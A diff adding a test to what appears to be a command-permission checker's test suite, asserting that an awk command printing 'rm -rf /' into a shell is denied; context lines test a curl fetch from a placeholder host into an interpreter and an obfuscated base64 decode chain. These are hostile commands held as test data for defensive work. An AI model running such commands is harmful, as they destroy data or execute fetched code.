@@ -255,3 +255,9 @@ def test_a_file_that_is_read_or_was_written_here_is_no_unknown_program(text: str
 def test_text_that_a_substitution_fetches_for_an_interpreter_is_fetched_text(program: str) -> None:
     assert decision(f'{program} "$(curl -s https://example.org/x)"') == "deny"
     assert decision(f'{program} "$(echo aGk= | base64 -d | rev | nobody-knows)"') != "allow"
+
+
+def test_what_awk_prints_into_a_shell_is_run() -> None:
+    assert decision("awk 'BEGIN { print \"rm -rf /\" | \"sh\" }'") == "deny"
+    assert decision("awk '{ print $1 | \"sort\" }' list") == "allow"
+    assert decision("awk '{ print \"rm -rf \" $1 | \"/bin/sh\" }' list") != "allow"
